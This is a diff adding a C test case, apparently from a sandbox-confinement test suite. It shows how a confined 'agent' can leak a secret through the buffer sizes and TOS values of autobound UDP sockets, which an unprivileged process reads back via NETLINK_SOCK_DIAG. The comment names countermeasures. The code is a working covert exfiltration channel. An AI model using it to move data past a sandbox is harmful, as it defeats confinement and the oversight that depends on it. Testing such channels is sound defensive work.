@@ -1,0 +1,148 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/* udp_sockmem_diag - socket state sock_diag shows every user, set by options seccomp allows, on
+ * sockets a non-server agent gets hashed without bind(2): a refused sendto() still autobinds a
+ * UDP socket to an ephemeral port (inet_send_prepare runs before the cgroup sendmsg hook), and
+ * from then on NETLINK_SOCK_DIAG (no privilege: `ss -uam`) reports its SO_SNDBUF/SO_RCVBUF
+ * (INET_DIAG_SKMEMINFO: twice the value asked, up to net.core.[wr]mem_max, ~21 bits each here)
+ * and IP_TOS (INET_DIAG_TOS, 8 bits). After its recv the agent stores 2 canary bytes in each
+ * buffer size and the chunk's index in the TOS of 4 UDP sockets, then tries one sendto each.
+ * Verifier: uid 65534 dumps the UDP sockets over NETLINK_SOCK_DIAG (SKMEMINFO, TOS) while the
+ * agent waits (sync "set") and reassembles the chunks.
+ * What would block it: refusing SO_SNDBUF/SO_RCVBUF/SO_*BUFFORCE and IP_TOS/IPV6_TCLASS values
+ * other than a fixed few to agents (as the flow-label options, run_confine.c), or a network
+ * namespace per agent. Bits per socket (~50), like netlink_groups (30) and covert_port_bind
+ * (12-16): the classification (covert or explicit) is the threat model's. */
+#include <grp.h>
+#include <netinet/in.h>
+#include <stdint.h>
+#include <sys/wait.h>
+#include <linux/inet_diag.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+#include <linux/sock_diag.h>
+
+#include "atk.h"
+
+#define UM_CHUNKS 4
+#define UM_BASE 4096
+
+static int agent(struct atk_ctx *c)
+{
+    size_t n = strlen(c->secret);
+    for (int i = 0; i < UM_CHUNKS; i++) {
+        unsigned char b[4] = {0};
+        for (int k = 0; k < 4; k++)
+            if ((size_t)(i * 4 + k) < n)
+                b[k] = (unsigned char)c->secret[i * 4 + k];
+        int s = (int)atk_try(c, "socket udp", socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
+        int snd = UM_BASE + (b[0] << 8 | b[1]), rcv = UM_BASE + (b[2] << 8 | b[3]), tos = 0xa0 + 4 * i;
+        if (s < 0 || atk_try(c, "SO_SNDBUF", setsockopt(s, SOL_SOCKET, SO_SNDBUF, &snd, sizeof(snd))) < 0 ||
+            atk_try(c, "SO_RCVBUF", setsockopt(s, SOL_SOCKET, SO_RCVBUF, &rcv, sizeof(rcv))) < 0 ||
+            atk_try(c, "IP_TOS", setsockopt(s, IPPROTO_IP, IP_TOS, &tos, sizeof(tos))) < 0)
+            continue;
+        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+        atk_try(c, "sendto 127.0.0.1:9 (autobinds even if refused)",
+                sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof(a)));
+    }
+    atk_sync(c, "set"); /* the sockets stay open until the agent exits */
+    return 0;
+}
+
+/* uid 65534: (tos, sndbuf, rcvbuf) of every AF_INET UDP socket into out[][3]; how many, or -1 */
+static int dump_udp(uint32_t (*out)[3], int cap)
+{
+    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
+    if (s < 0)
+        return -1;
+    struct {
+        struct nlmsghdr h;
+        struct inet_diag_req_v2 r;
+    } req = {
+        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
+        .r = {.sdiag_family = AF_INET,
+              .sdiag_protocol = IPPROTO_UDP,
+              .idiag_ext = (1 << (INET_DIAG_SKMEMINFO - 1)) | (1 << (INET_DIAG_TOS - 1)),
+              .idiag_states = ~0u}};
+    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
+        close(s);
+        return -1;
+    }
+    static char buf[1 << 16];
+    int got = 0;
+    for (;;) {
+        ssize_t r = recv(s, buf, sizeof(buf), 0);
+        if (r <= 0)
+            break;
+        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
+            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
+                close(s);
+                return got;
+            }
+            struct inet_diag_msg *m = NLMSG_DATA(h);
+            int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
+            uint32_t v[3] = {0, 0, 0};
+            for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
+                if (at->rta_type == INET_DIAG_TOS && RTA_PAYLOAD(at) >= 1)
+                    v[0] = *(unsigned char *)RTA_DATA(at);
+                if (at->rta_type == INET_DIAG_SKMEMINFO && RTA_PAYLOAD(at) >= SK_MEMINFO_SNDBUF * 4 + 4) {
+                    const uint32_t *mi = RTA_DATA(at);
+                    v[1] = mi[SK_MEMINFO_SNDBUF];
+                    v[2] = mi[SK_MEMINFO_RCVBUF];
+                }
+            }
+            if (got < cap)
+                memcpy(out[got++], v, sizeof(v));
+        }
+    }
+    close(s);
+    return got;
+}
+
+static void on_sync(struct atk_ctx *c, const char *tag)
+{
+    if (strcmp(tag, "set") != 0)
+        return;
+    int p[2];
+    if (pipe(p) != 0)
+        return;
+    pid_t pid = fork();
+    if (pid == 0) {
+        close(p[0]);
+        if (setgroups(0, NULL) != 0 || setgid(65534) != 0 || setuid(65534) != 0)
+            _exit(1);
+        static uint32_t socks[4096][3];
+        int n = dump_udp(socks, 4096);
+        char msg[UM_CHUNKS * 4 + 1] = {0};
+        for (int k = 0; k < n; k++) {
+            uint32_t tos = socks[k][0];
+            if (tos < 0xa0 || tos >= 0xa0 + 4 * UM_CHUNKS || (tos & 3) || socks[k][1] < 2 * UM_BASE ||
+                socks[k][2] < 2 * UM_BASE)
+                continue;
+            int i = (int)(tos - 0xa0) / 4;
+            uint32_t a = (socks[k][1] - 2 * UM_BASE) / 2, b = (socks[k][2] - 2 * UM_BASE) / 2;
+            msg[i * 4] = (char)(a >> 8), msg[i * 4 + 1] = (char)a, msg[i * 4 + 2] = (char)(b >> 8),
+                    msg[i * 4 + 3] = (char)b;
+        }
+        ssize_t w = write(p[1], msg, sizeof(msg));
+        _exit(w < 0);
+    }
+    close(p[1]);
+    char got[UM_CHUNKS * 4 + 2] = {0};
+    ssize_t r = pid > 0 ? read(p[0], got, sizeof(got) - 1) : -1;
+    close(p[0]);
+    if (pid > 0)
+        waitpid(pid, NULL, 0);
+    if (r > 0 && strstr(got, c->canary))
+        atk_evidence(c, "uid 65534 read the canary from the buffer sizes of the agent's UDP sockets "
+                        "(NETLINK_SOCK_DIAG SKMEMINFO, TOS as the chunk index)");
+}
+
+static const struct atk A = {"udp_sockmem_diag",
+                             "SO_SNDBUF/SO_RCVBUF/IP_TOS of autobound UDP sockets, read through sock_diag",
+                             0,
+                             NULL,
+                             agent,
+                             on_sync,
+                             NULL,
+                             NULL};
+ATK_MAIN(A)
